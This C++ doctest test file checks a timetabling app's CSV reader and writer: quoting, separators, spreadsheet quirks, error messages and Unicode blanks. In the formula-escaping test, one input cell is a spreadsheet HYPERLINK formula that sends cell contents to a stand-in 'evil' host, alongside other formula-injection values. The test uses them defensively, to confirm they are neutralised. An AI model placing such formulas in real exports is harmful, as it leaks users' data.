#include <ferry/apps/timetabling/io/CsvReader.hpp>

#include <string>
#include <vector>

#include <doctest/doctest.h>

#include <ferry/apps/timetabling/io/InputError.hpp>
#include <ferry/apps/timetabling/io/closestName.hpp>
#include <ferry/apps/timetabling/io/csvLine.hpp>

using namespace timetabling;

namespace {

CsvReader reader(const std::string& text) { return CsvReader(TextFile("rooms.csv", text), {"room", "seats"}, {"building"}); }

/// Reads the table to its end. Returns the error.
std::string refusalOf(const std::string& text) {
    try {
        CsvReader table = reader(text);
        while (table.next()) {
            table.text("room");
            table.number("seats", 0, 500);
        }
    } catch (const InputError& error) {
        return error.what();
    }
    return "none";
}

}    // namespace

TEST_CASE("CsvReader: columns in any order, quoted cells, blanks, both kinds of line end") {
    CsvReader table = reader("\xEF\xBB\xBFseats , building,\"room\"\r\n\r\n 20 ,\"Main, \"\"old\"\"\", A.1\r\n30,,B\n");
    REQUIRE(table.next());
    CHECK(table.number("seats", 0, 100) == 20);
    CHECK(table.text("building") == "Main, \"old\"");
    CHECK(table.text("room") == "A.1");
    REQUIRE(table.next());
    CHECK_FALSE(table.has("building"));
    CHECK(table.text("room") == "B");
    CHECK_FALSE(table.next());
}

TEST_CASE("CsvReader: semicolons separate where the head has them and no comma") {
    CsvReader table = reader("room;seats\nA,1;20\n");
    REQUIRE(table.next());
    CHECK(table.text("room") == "A,1");
    CHECK_FALSE(table.has("building"));
}

TEST_CASE("CsvReader: what is wrong is told with file, line and column") {
    CHECK(refusalOf("") == "rooms.csv:1: expected the columns room, seats and optionally building, found nothing");
    CHECK(refusalOf("room\nA\n") == "rooms.csv:1: expected a column 'seats', found none");
    CHECK(refusalOf("room,sets\n") ==
          "rooms.csv:1: expected the columns room, seats and optionally building, found 'sets'; did you mean 'seats'?");
    CHECK(refusalOf("room,seats,room\n") == "rooms.csv:1: expected each column once, found 'room' twice");
    CHECK(refusalOf("room,seats\nA,1\nB\n") == "rooms.csv:3: expected 2 cells as in the head, found 1");
    CHECK(refusalOf("room,seats\nA,many\n") == "rooms.csv:2: column 'seats': expected a whole number from 0 to 500, found 'many'");
    CHECK(refusalOf("room,seats\nA,501\n") == "rooms.csv:2: column 'seats': expected a whole number from 0 to 500, found '501'");
    CHECK(refusalOf("room,seats\nA,\n") == "rooms.csv:2: column 'seats': expected a value, found nothing");
    CHECK(refusalOf("room,seats\n\"A,5\n") == "rooms.csv:2: expected a closing quote, found none; write a quote in a cell as two quotes");
    CHECK(refusalOf("room,seats\nA,1.000\n") ==
          "rooms.csv:2: column 'seats': expected a whole number from 0 to 500, found '1.000'; write thousands "
          "without a sign between them");
    for (const std::string thousands : {"1 200", "1'200", "\"1,200\"", "12.000.000"})
        CHECK(refusalOf("room,seats\nA," + thousands + "\n").ends_with("; write thousands without a sign between them"));
    for (const std::string other : {"1 20", "1200 000", ".000", "12,", "1..000"})
        CHECK(refusalOf("room;seats\nA;" + other + "\n").ends_with("found '" + other + "'"));
    CHECK(refusalOf("room,seats\nA,2.5\n") == "rooms.csv:2: column 'seats': expected a whole number from 0 to 500, found '2.5'");
    CHECK(refusalOf("room,seats\nA,1,2\n") == "rooms.csv:2: expected 2 cells as in the head, found 3");
    CHECK(refusalOf("room,seats\n\"A\"B,5\n") == "rooms.csv:2: expected ',' behind a closing quote, found 'B,5'");
    CHECK(refusalOf("room,seats\nA,5\n") == "none");
}

TEST_CASE("CsvReader: what spreadsheets save is read: separators, empty rows and columns, capitals, '40.0', ends of line in cells") {
    const std::string rows = "A.1 40\nB 20\n";
    for (const std::string text :
         {"sep=;\nroom;seats\nA.1;40\nB;20\n", "sep=|\nroom|seats\nA.1|40\nB|20\n", "room\tseats\nA.1\t40\nB\t20\n",
          "Room,SEATS,,\nA.1,40,,\n,,,\nB,20,,\n,,,\n", "\r\n\r\nroom;seats\r\nA.1;40,0\r\n;\r\nB;20\r\n",
          "room,seats\rA.1,40.0\rB,20.00\r", "seats,\"room\"\n40,\"A.1\"\n20,\" B\n\"\n",
          "room,seats,remarks\nA.1,40,\"two\nlines, and a comma\"\nB,20\n"}) {
        CAPTURE(text);
        CsvReader table = reader(text);
        std::string read;
        while (table.next()) read += table.text("room") + " " + std::to_string(table.number("seats", 0, 500)) + "\n";
        CHECK(read == rows);
    }
}

TEST_CASE("CsvReader: empty cells at the end of a row need no separators, since spreadsheets leave these out") {
    CsvReader table = reader("room,seats,building\nA,1,north\nB,2\nC,3,\n");
    std::string read;
    while (table.next()) read += table.text("room") + (table.has("building") ? "+" : "-");
    CHECK(read == "A+B-C-");
}

TEST_CASE("CsvReader: yes and no have several forms") {
    const auto isYes = [](const std::string& cell) {
        CsvReader table = reader("building,room,seats\n" + cell + ",A,1\n");
        REQUIRE(table.next());
        return table.isYes("building");
    };
    for (const std::string yes : {"1", "1.0", "Yes", "TRUE", "x"}) CHECK(isYes(yes));
    for (const std::string no : {"", "0", "0.0", "no", "False"}) CHECK_FALSE(isYes(no));
    CHECK_THROWS_WITH_AS(isYes("2"), "rooms.csv:2: column 'building': expected 1 or 0, yes or no, found '2'", InputError);
}

TEST_CASE("CsvReader: blanks of web pages and texts count as blanks, and those without width as nothing") {
    for (const std::string name : {"\u00a0A 1", "A\u20091\u3000", "A\u202f1", "\ufeffA \u200b1\u200b", "\u2060A\u00a0 1"}) {
        CAPTURE(name);
        CsvReader table = reader("room,seats\n" + name + ",1\n");
        REQUIRE(table.next());
        CHECK(table.text("room") == "A 1");
    }
    CsvReader table = reader("room,seats\nA\u200b1,\u00a040\u202f\n");
    REQUIRE(table.next());
    CHECK(table.text("room") == "A1");
    CHECK(table.number("seats", 0, 100) == 40);
}

TEST_CASE("CsvReader: a column that does not count is told, and the line of a row is that of its begin") {
    CsvReader table = reader("room,seats,bilding\n\"A\n\n1\",1,x\nB,2,x\n");
    REQUIRE(table.notes().size() == 1);
    CHECK(table.notes()[0] ==
          "rooms.csv:1: column 'bilding' is left out; the columns room, seats and optionally building count; did you mean 'building'?");
    REQUIRE(table.next());
    CHECK(table.text("room") == "A 1");
    CHECK(table.line() == 2);
    REQUIRE(table.next());
    CHECK(table.line() == 5);
}

TEST_CASE("CsvReader: after an error the next row can be read") {
    CsvReader table = reader("room,seats\n\"C\"x,3\nB,2,3\n\"open,1\nD,4\n");
    std::vector<std::string> errors;
    std::string rooms;
    for (bool isMore = true; isMore;) {
        try {
            isMore = table.next();
            if (isMore) rooms += table.text("room");
        } catch (const InputError& error) {
            errors.emplace_back(error.what());
        }
    }
    CHECK(rooms == "D");
    CHECK(errors.size() == 3);
}

TEST_CASE("csvLine: what a spreadsheet would take for a formula has a quote before it, and each cell is read back as it was") {
    CHECK(csvLine({"=1+1", "+2", "-3", "@x", "\tx"}) == "'=1+1,'+2,'-3,'@x,'\tx\r\n");
    for (const std::string wide : {"\xEF\xBC\x9D", "\xEF\xBC\x8B", "\xEF\xBC\x8D", "\xEF\xBC\xA0"})
        CHECK(csvLine({wide + "1"}) == "'" + wide + "1\r\n");
    CHECK(csvLine({"a=b", "'s", "''", "1-2", ""}) == "a=b,'s,'',1-2,\r\n");
    for (const std::string cell : {"=HYPERLINK(\"http://evil/?\"&A1)", "+2", "-2+3", "@SUM(A1)",
                                   "\xEF\xBC\x9D"
                                   "1",
                                   "'\xEF\xBC\x8B"
                                   "1",
                                   "'=x", "''=x", "'s", "plain", "'", "'a=b"}) {
        CAPTURE(cell);
        CsvReader table = reader("seats,room\r\n" + csvLine({"1", cell}));
        REQUIRE(table.next());
        CHECK(table.text("room") == cell);
    }
}

TEST_CASE("meantInstead: names that are alike, and what spreadsheets make of numbers and dates") {
    const std::vector<std::string> names{"007", "101", "1-2", "Algebra"};
    CHECK(meantInstead("Algebar", names) == "; did you mean 'Algebra'?");
    CHECK(meantInstead("7", names) == "; did you mean '007'? Format the column as text");
    CHECK(meantInstead("101.0", names) == "; did you mean '101'? Format the column as text");
    for (const std::string date : {"01. Feb", "2-Jan", "01.02.2026", "1/2/2026", "02-Jan-26"}) {
        CAPTURE(date);
        CHECK(meantInstead(date, names) == "; where a spreadsheet made a date of it, format the column as text and type it again");
    }
    CHECK(meantInstead("1.00E+05", names) == "; where a spreadsheet made a number of it, format the column as text and type it again");
    CHECK(meantInstead("Alg", names) == "; did you mean 'Algebra'?");
    for (const std::string name : {"", "E+5", "1E5", "1.0E+", "Chemistry", "8", "A-1", "1-2-3-4", "12-12345", "."}) {
        CAPTURE(name);
        CHECK(meantInstead(name, names).empty());
    }
}

TEST_CASE("InputError: text of a file shows no control characters, also of two bytes") {
    CHECK(printable("a\x1b[31m\xc2\x9b\x7f\xc3\xa9\n") == "a\\x1b[31m\\u009b\\x7f\xc3\xa9\\n");
    CHECK(printable("Zo\xc3\xab Lind", 3) == "Zo...");
}
